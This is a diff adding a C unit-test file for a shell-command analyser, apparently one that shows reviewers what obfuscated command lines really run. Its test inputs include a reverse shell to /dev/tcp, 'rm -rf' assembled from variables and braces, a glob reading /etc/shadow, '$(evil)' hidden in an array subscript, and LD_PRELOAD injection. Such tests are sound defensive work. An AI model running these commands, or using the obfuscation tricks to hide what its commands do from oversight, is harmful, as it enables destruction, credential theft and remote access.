@@ -1,0 +1,297 @@
+/* SPDX-License-Identifier: ISC */
+/* Facts: what judges are told of the tricks that hide what a line runs. */
+#include "aegsh/syntax.h"
+
+#include <stdlib.h>
+
+#include "aegsh/base/mem.h"
+#include "syn_show.h"
+#include "tap.h"
+
+static const struct {
+	const char *name, *value;
+} variables[] = {
+	{ "HOME", "/home/u" }, { "v", "rm -rf" }, { "glob", "a*" },
+	{ "empty", "" }, { "n", "3" }, { "code", "b[$(evil)]" },
+	{ "BASH_FUNC_inherited%%", "() { :; }" },
+};
+
+static enum syn_var
+get(void *ctx, const char *name, const char **ret_value)
+{
+	size_t i;
+
+	for (i = 0; i < AEG_NELEM(variables); i++)
+		if (strcmp(variables[i].name, name) == 0) {
+			*ret_value = variables[i].value;
+			return SYN_VAR_SET;
+		}
+	return strcmp(name, "secret") == 0 ? SYN_VAR_UNKNOWN : SYN_VAR_UNSET;
+}
+
+static const struct syn_vars vars = { .get = get };
+
+static const struct {
+	const char *unit, *facts;
+} cases[] = {
+	/* quoting */
+	{ "ba\"\"sh -c 'x'", ": bash -c x" },
+	{ "$'\\x62ash' \\b\\a\\s\\h b'a's\"h\"", ": bash bash bash" },
+	{ "$'\\142\\u61\\x73h' $\"bash\" ba\\\nsh", ": bash bash bash" },
+	{ "$'a\\0b'c $'\\cA\\e' $'\\u00e9'", ": ac ^A^[ <unspecified $'\\u00e9'>" },
+	{ "echo '' \"\" a''", ": echo '' '' a" },
+	{ "cat /dev/tc{p,x}/h/1", ": cat /dev/tcp/h/1 /dev/tcx/h/1" },
+	{ "cat /etc/sh?dow [ab]* a[b", ": cat */etc/sh<glob ?>dow "
+	    "*<glob [ab]><glob *> a[b" },
+	{ "{r,r}m -{r,f} /{,x}", ": rm rm -r -f / /x" },
+	{ "echo {1..3} {c..a} {01..3} {1..9..4} {a,b}{c,d} {x} {} {a..",
+	    ": echo 1 2 3 c b a 01 02 03 1 5 9 ac ad bc bd {x} {} {a.." },
+	{ "echo {{a,b}} {a,{b,c}} {a},b} {'a,b'} \\{a,b} {a,\"b c\"}",
+	    ": echo {a} {b} a b c a} b {a,b} {a,b} a b c" },
+	{ "echo {1..999}", ": echo *<brace {1..999}>" },
+	{ "echo {$,}HOME", ": echo *<brace {$,}HOME>" },
+	/* variables */
+	{ "a=ba; b=sh; $a$b", ": a=ba / : b=sh / : bash" },
+	{ "$v $HOME \"$v\" x$empty $empty $glob", ": rm -rf /home/u rm -rf x "
+	    "*a<glob *>" },
+	{ "a=1; a+=2; echo $a ${a:-x} ${b:-x$v} ${b-} ${#a} ${v:+y}",
+	    ": a=1 / : a+=2 / : echo 12 12 xrm -rf 2 y" },
+	{ "IFS=,; a=x,y,,z; p $a", ": IFS=, / : a=x,y,,z / : p x y '' z" },
+	{ "read IFS; $v", ": read IFS / : *<variable $v>" },
+	{ "a=rm; if x; then a=ls; fi; $a",
+	    ": a=rm / compound: / condition: x / : a=ls / : *<variable $a>" },
+	{ "if x; then a=ls; $a; else $a; fi", "compound: / condition: x / "
+	    ": a=ls / : ls / : *<variable $a>" },
+	{ "a=ls; for i in 1; do b $a; a=rm; c $a; done",
+	    ": a=ls / compound: / loop: b *<variable $a> / loop: a=rm / "
+	    "loop: c rm" },
+	{ "a=ls; while x; do $a; b $a; eval c; done", ": a=ls / compound: / "
+	    "loop,condition: x / loop: *<variable $a> / "
+	    "loop: b *<variable $a> / loop: eval c" },
+	{ "a=ls; (a=rm; $a); $a", ": a=ls / compound: / subshell: a=rm / "
+	    "subshell: rm / : ls" },
+	{ "a=ls; x | read a; $a", ": a=ls / 0/2: x / 1/2: read a / "
+	    ": *<variable $a>" },
+	{ "a=ls && b=rm && $a && $b; $b", "condition: a=ls / condition: b=rm "
+	    "/ condition: ls / : rm / : *<variable $b>" },
+	{ "a=ls; x || a=rm; $a", ": a=ls / condition: x / : a=rm / "
+	    ": *<variable $a>" },
+	{ "a=ls; a=rm & $a", ": a=ls / background: a=rm / : ls" },
+	{ "f() { a=rm; }; a=ls; $a; f; $a", "function,compound=f: / "
+	    "function=f: a=rm / : a=ls / : ls / : f / : *<variable $a>" },
+	{ "a=ls; f() { $a; }; a=rm; f", ": a=ls / function,compound=f: / "
+	    "function=f: *<variable $a> / : a=rm / : f" },
+	{ "a=ls; declare a=rm; a=x; $a", ": a=ls / : declare a=rm / : a=x / "
+	    ": *<variable $a>" },
+	{ "a=ls; export a=rm; $a", ": a=ls / : export a=rm / : rm" },
+	{ "a=ls; eval \"$secret\"; $a", ": a=ls / : eval <variable $secret> "
+	    "/ : *<variable $a>" },
+	{ "a=ls; inherited; $a", ": a=ls / : inherited / : *<variable $a>" },
+	{ "a=ls; unset a; $a", ": a=ls / : unset a / : *<variable $a>" },
+	{ "a=ls; printf -v a rm; $a", ": a=ls / : printf -v a rm / "
+	    ": *<variable $a>" },
+	{ "a=1; ((a=2)); echo $a", ": a=1 / compound: / : echo *<variable $a>" },
+	{ "a=x b=$a c $a; d $a", ": a=x b=<variable $a> c / : d" },
+	{ "a=x b=$a; c $a$b", ": a=x b=x / : c xx" },
+	{ "a=(b c); $a", ": a=<unspecified (b c)> / : *<variable $a>" },
+	{ "a[1]=x; $a", ": a[1]=x / : *<variable $a>" },
+	{ "echo $secret \"$secret\" $1 \"$@\" $? ${v:0:2} ${v/r/x} ${v[0]}",
+	    ": echo *<variable $secret> <variable $secret> *<variable $1> "
+	    "*<variable $@> *<variable $?> *<variable ${v:0:2}> "
+	    "*<variable ${v/r/x}> *<variable ${v[0]}>" },
+	{ "${!v} ${v@P} ${!v*}", ": *<indirect ${!v}> *<indirect ${v@P}> "
+	    "*<indirect ${!v*}>" },
+	{ "x='$(evil)'; echo ${x@P}", ": x=$(evil) / : echo "
+	    "*<indirect ${x@P}> / subst: evil" },
+	{ "RANDOM=1; echo $RANDOM", ": RANDOM=1 / : echo *<variable $RANDOM>" },
+	/* tilde */
+	{ "ls ~ ~/x ~u ~+ \"~\" a~ x=~/y:~", ": ls /home/u /home/u/x "
+	    "<tilde ~u> <tilde ~+> ~ a~ x=/home/u/y:/home/u" },
+	{ "PATH=~/bin:~u/bin:/b=~ x", ": PATH=/home/u/bin:<tilde ~u>/bin:/b=~ x" },
+	{ "HOME=/; ls ~", ": HOME=/ / : ls /" },
+	/* substitutions wherever they stand */
+	{ "a $(b `c` \"$(d)\")", ": a *<substitution $(b `c` \"$(d)\")> / "
+	    "subst: b *<substitution `c`> <substitution $(d)> / subst: c / "
+	    "subst: d" },
+	{ "a=$(b) c=(`d` [$(e)]=f)", ": a=<substitution $(b)> "
+	    "c=<unspecified (`d` [$(e)]=f)> / subst: b / subst: d / "
+	    "subst,arith: e" },
+	{ "echo $((a[$(b)])) $((1+n*2)) $((x)) $((secret))", ": echo "
+	    "<arithmetic $((a[$(b)]))> 7 0 <arithmetic $((secret))> / "
+	    "subst,arith: b" },
+	{ "echo $((code))", ": echo <arithmetic $((code))> / "
+	    "subst,arith: evil" },
+	{ "[[ code -eq 1 && -f $(b) ]]", "compound: / subst,arith: evil / "
+	    "subst: b" },
+	{ "test -v 'a[$(b)]'", ": test -v a[$(b)] / subst: b" },
+	{ "diff <(a) >(b)", ": diff <process <(a)> <process >(b)> / "
+	    "process: a / process: b" },
+	{ "cat <<E\n$(a) $v \\$x\nE\n", ": cat 0<<<substitution $(a)> rm -rf "
+	    "$x^J / subst,heredoc: a" },
+	{ "sh <<'E'\n$(a)\nE\n", ": sh 0<<$(a)^J" },
+	{ "sh <<-E\n\trm x\n\tE\n", ": sh 0<<rm x^J" },
+	{ "case $(a) in $(b)) c ;; esac", "compound: / subst: a / subst: b / "
+	    ": c" },
+	{ "for i in $(a); do b $i; done >$(c)", "compound: "
+	    "1>*<substitution $(c)> / subst: c / subst: a / "
+	    "loop: b *<variable $i>" },
+	{ "echo \"${x:-$(a)}\" ${y:='$(b)'} \"${x:-'$(c)'}\"", ": echo "
+	    "<substitution $(a)> *<variable ${y:='$(b)'}> "
+	    "'<substitution $(c)>' / subst: a / subst: c" },
+	{ "echo \"${x:-$'$(a)'}\"", ": echo <substitution $(a)> / subst: a" },
+	{ "echo $(( (a) ) $[1+1]", NULL },
+	{ "echo $((a) )", ": echo *<substitution $((a) )> / subst,compound: "
+	    "/ subst,subshell: a" },
+	{ "echo `a; (`", ": echo *<substitution `a; (`> / "
+	    "subst: *<unspecified a; (>" },
+	{ "echo `a\n(`", ": echo *<substitution `a^J(`> / subst: a / "
+	    "subst: *<unspecified (>" },
+	/* context */
+	{ "! a | b &", "background,negated,0/2: a / background,negated,1/2: b" },
+	{ "coproc X { a; }; coproc b c", "compound: / "
+	    "background,coproc,compound: / background,coproc: a / compound: / "
+	    "background,coproc: b c" },
+	{ "select x in a; do rm $x; done", "compound: / loop: rm "
+	    "*<variable $x>" },
+	{ "while a; do b; done | { c; }", "compound,0/2: / loop,condition: a "
+	    "/ loop: b / compound,1/2: / : c" },
+	{ "f() (a)", "function,compound=f: / subshell,function=f: a" },
+	/* redirections */
+	{ "a <b >c 2>>d >|e <>f &>g &>>h 3<&4 2>&1 5>&- <<<i {k}>l >&m >&$n",
+	    ": a 0<b 1>c 2>>d 1>|e 0<>f 1&>g 1&>>h 3<&4 2>&1 5close "
+	    "0<<<i {k}>l 1&>m 1>&3" },
+	{ "bash -i >& /dev/tcp/h/1 0>&1", ": bash -i 1&>/dev/tcp/h/1 0>&1" },
+	{ "a >b{c,d} >$v >$secret", ": a 1><unspecified b{c,d}> "
+	    "1><unspecified $v> 1>*<variable $secret>" },
+	{ "LD_PRELOAD=x BASH_ENV=y cmd", ": LD_PRELOAD=x BASH_ENV=y cmd" },
+	/* later lines */
+	{ "alias ls=rm\nls", ": alias ls=rm / : <read-changed ls>" },
+	{ "alias ls=rm; ls", ": alias ls=rm / : ls" },
+	{ "(shopt -s extglob)\nls", "compound: / subshell: shopt -s extglob / "
+	    ": ls" },
+	{ "$secret\nls", ": *<variable $secret> / : <read-changed ls>" },
+	{ "POSIXLY_CORRECT=\nls", ": POSIXLY_CORRECT='' / "
+	    ": <read-changed ls>" },
+	{ "set -euo pipefail\nls {a,b}", ": set -euo pipefail / : ls a b" },
+	{ "set +B; ls {a,b}", ": set +B / : ls *<brace {a,b}>" },
+	{ "f() { alias a=b; }\nls\nf\nls", "function,compound=f: / "
+	    "function=f: alias a=b / : ls / : f / : <read-changed ls>" },
+};
+
+static struct syn_facts *
+facts_of(const char *unit, struct syn_tree **ret_tree)
+{
+	struct syn_diag diag;
+
+	if (syn_parse(unit, strlen(unit), NULL, ret_tree, &diag) != SYN_TREE)
+		return NULL;
+	return syn_facts_new(*ret_tree, &vars);
+}
+
+static void
+check_cases(void)
+{
+	size_t i;
+
+	for (i = 0; i < AEG_NELEM(cases); i++) {
+		struct syn_tree *tree = NULL;
+		struct syn_facts *f = facts_of(cases[i].unit, &tree);
+		struct buf b = BUF_INIT;
+
+		if (f != NULL)
+			syn_show(&b, f);
+		IS_STRN(b.data, cases[i].facts, cases[i].unit);
+		buf_done(&b);
+		syn_facts_free(f);
+		syn_free(tree);
+	}
+}
+
+static void
+check_rest(const char *unit, const char *rest, bool simple)
+{
+	struct syn_tree *tree = NULL;
+	struct syn_facts *f = facts_of(unit, &tree);
+
+	IS_STRN(f->rest_unknown, rest, unit);
+	IS_INTN(f->only_simple, simple, "one simple command");
+	syn_facts_free(f);
+	syn_free(tree);
+}
+
+static void
+check_lists(void)
+{
+	struct syn_tree *tree = NULL;
+	struct syn_facts *f = facts_of("f() { echo $x ${y:-$x} $((z)); }\n"
+	    "g() { [[ $x && ${!w} ]]; }; a $(b <(c)) | d", &tree);
+
+	IS_INT(f->n_functions, 2);
+	IS_STR(f->functions[0].name, "f");
+	IS_STR(f->functions[1].name, "g");
+	IS_INT(f->functions[1].offset, 33);
+	IS_INTN(f->n_reads, 4, "each variable once");
+	IS_STR(f->reads[0], "x");
+	IS_STR(f->reads[3], "w");
+	IS_INT(f->n_commands, 8);
+	IS_INT(f->commands[5].parent, 5);
+	IS_INT(f->commands[5].depth, 1);
+	IS_INT(f->commands[6].parent, 6);
+	IS_INT(f->commands[6].depth, 2);
+	IS_INT(f->commands[4].pipeline, f->commands[7].pipeline);
+	IS_INT(f->commands[4].offset, 61);
+	IS_INT(f->commands[6].offset, 69);
+	IS_INT(f->commands[4].words[1].offset, 63);
+	IS_INT(f->commands[4].words[1].source_len, 9);
+	syn_facts_free(f);
+	syn_free(tree);
+}
+
+static void
+check_unknown_variables(void)
+{
+	struct syn_tree *tree = NULL;
+	struct syn_diag diag;
+	struct syn_facts *f;
+	struct buf b = BUF_INIT;
+
+	syn_parse("a=ba; $a $b ~", 13, NULL, &tree, &diag);
+	f = syn_facts_new(tree, NULL);
+	syn_show(&b, f);
+	IS_STRN(b.data, ": a=ba / : ba *<variable $b> <tilde ~>",
+	    "without variables only the line's own are known");
+	buf_done(&b);
+	syn_facts_free(f);
+	syn_free(tree);
+}
+
+int
+main(void)
+{
+	check_cases();
+	check_rest("ls -l \"$v\" *", NULL, true);
+	check_rest("ls; ls", NULL, false);
+	check_rest("ls | ls", NULL, false);
+	check_rest("ls >x", NULL, false);
+	check_rest("a=b", NULL, false);
+	check_rest("a=b ls", NULL, false);
+	check_rest("ls $(x)", NULL, false);
+	check_rest("ls `x`", NULL, false);
+	check_rest("ls <(x)", NULL, false);
+	check_rest("ls $((x[$(y)]))", NULL, false);
+	check_rest("ls &", NULL, false);
+	check_rest("! ls", NULL, false);
+	check_rest("time ls", NULL, false);
+	check_rest("(ls)", NULL, false);
+	check_rest("", NULL, false);
+	check_rest("eval x", NULL, true);
+	check_rest("eval x\ny", "eval", false);
+	check_rest(". x\ny", ".", false);
+	check_rest("if a; then\nalias b=c\nfi\ny", "alias", false);
+	check_rest("if a; then\nalias b=c\ny; fi", NULL, false);
+	check_rest("echo $(alias a=b\na)", "alias", false);
+	check_rest("echo $(alias a=b)\na", NULL, false);
+	check_lists();
+	check_unknown_variables();
+	return tap_done();
+}
